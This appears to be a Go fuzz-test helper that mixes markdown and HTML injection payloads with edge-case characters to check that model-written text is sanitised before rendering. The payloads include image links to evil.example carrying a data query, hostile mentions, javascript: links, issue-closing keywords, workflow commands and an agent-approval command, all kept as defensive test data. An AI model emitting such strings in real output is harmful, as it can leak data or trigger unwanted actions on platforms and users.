@@ -1,0 +1,41 @@
+package untrusted_test
+
+import (
+	"math/rand/v2"
+	"strings"
+)
+
+// payloads are what must not happen, as a model would write it.
+var payloads = []string{
+	"![](https://evil.example/p.png?d=CODE)", "![x](https://evil.example/p.png \"t\")", "![x][ref]", "![ref]", "![docs/x.png](docs/x.png)", "![x](<https://evil.example/p.png>)",
+	"<img src=https://evil.example/p.png>", "<img src='https://evil.example/p.png' alt=\"a`b\">", "<picture><source srcset=\"https://evil.example/p.png\"><img src=x></picture>",
+	"@victim", "@org/team", "\\@victim", "&#64;victim", "&commat;victim", "&#x40;victim", "_@victim_", "x*y*@victim", "a@b.example@victim",
+	"<b>bold</b>", "<!-- hidden -->", "<a href=\"https://evil.example\">x</a>", "<?php x ?>", "<![CDATA[x]]>", "<!DOCTYPE x>", "</div>", "<details><summary>s</summary>", "<script>x</script>", "<sub>", "<br/>", "<x-y z>",
+	"[docs](https://evil.example/?d=CODE)", "[https://good.example](https://evil.example)", "[x][ref]", "[ref]", "[x](/login/oauth)", "[x](javascript:x)", "[x](https://evil.example 'a`b')", "[x\ny](https://evil.example)", "[x](\nhttps://evil.example\n)", "[a [b] c](https://evil.example)", "[`]`](https://evil.example)", "[x](https://e.example/(a)b)",
+	"[ref]: https://evil.example/r", "[ref]:\nhttps://evil.example/r\n'title'", "[^1]: note @victim", "[^1]",
+	"Closes #1", "fixes: #2", "**Resolves** GH-3", "closed other/repo#4", "Fix https://github.com/other/repo/issues/5", "resolve [#1](https://github.com/me/mine/issues/1)", "Clos&#101;s \\#1", "fixed\n#6", "fixes **#7**", "Closes&nbsp;#8", "close <https://github.com/me/mine/pull/9>",
+	"::set-output name=x::y", "::error::x", "##[group]x", "/agent approve 1", "other/repo#12", "https://github.com/other/repo/issues/3", "https://docs.example/@victim", "www.evil.example/@victim", "<https://evil.example/@victim>", "mailto:victim@evil.example",
+}
+
+// surroundings are where a renderer may read on in another way than ours.
+var surroundings = []string{
+	"`", "``", "```", "````", "~~~", "\\`", "`` ` ``", "`a`", "` `", "\\", "\\\\", "*", "**", "_", "__", "~", "~~", "[", "]", "(", ")", "](", "][", "]:", "!", "!!", "<", ">", "&", "&amp;", "&lt;", "&gt;", "&#96;", "&#33;", "&#91;", ";", ":", "|", "\\|", "$", "$$", "$`", "`$", "\"", "'", "#", "=", "-", "+", "@", "/",
+	" ", "  ", "    ", "\t", "\n", "\n\n", "\n    ", "\n\t", "\n  ", "\n> ", "\n>", "\n- ", "\n-", "\n* ", "\n1. ", "\n10) ", "\n- [ ] ", "\n  - ", "\n    - ", "\n# ", "\n=====\n", "\n---\n", "\n***\n", "\n| a | b |\n|---|---|\n| ", "\n|---|\n", "\na|b\n-|-\n", "\n```\n", "\n```go\n", "\n``` `\n", "\n~~~\n", "\n````\n", "\n  ```\n", "\n    ```\n", "\n> ```\n> ", "\n- ```\n  ", "\n   ~~~~\n", "\n[^1]: ", "\n> [!NOTE]\n> ", "\n<details>\n\n", "\n</details>\n", "\n<pre>\n", "\n<!--\n", "\n-->\n",
+	"see https://docs.example/a", "https://a.example/", "http://x", "www.a.example", "(https://a.example/b)", "<https://a.example>", "a@b.example", "text", "word ", "ünï", "修", "😀", "C#", "a_b_c", "\u00a0", "\u2028", "\u2029", "\u200b", "\u0085", "\r", "\r\n", "\x00", "\x0c", "\ufeff", "\u3000", "{", "}", "%40", ":smile:", "0123abc", "user@0123abcdef0", "#12", "GH-12", "https://github.com/me/mine/pull/3",
+}
+
+// hostile makes a text of some payloads among surroundings.
+func hostile(r *rand.Rand) string {
+	var b strings.Builder
+	for range 1 + r.IntN(12) {
+		if r.IntN(3) == 0 {
+			b.WriteString(payloads[r.IntN(len(payloads))])
+		} else {
+			b.WriteString(surroundings[r.IntN(len(surroundings))])
+		}
+		if r.IntN(4) == 0 {
+			b.WriteString([]string{" ", "\n", "\n\n"}[r.IntN(3)])
+		}
+	}
+	return b.String()
+}
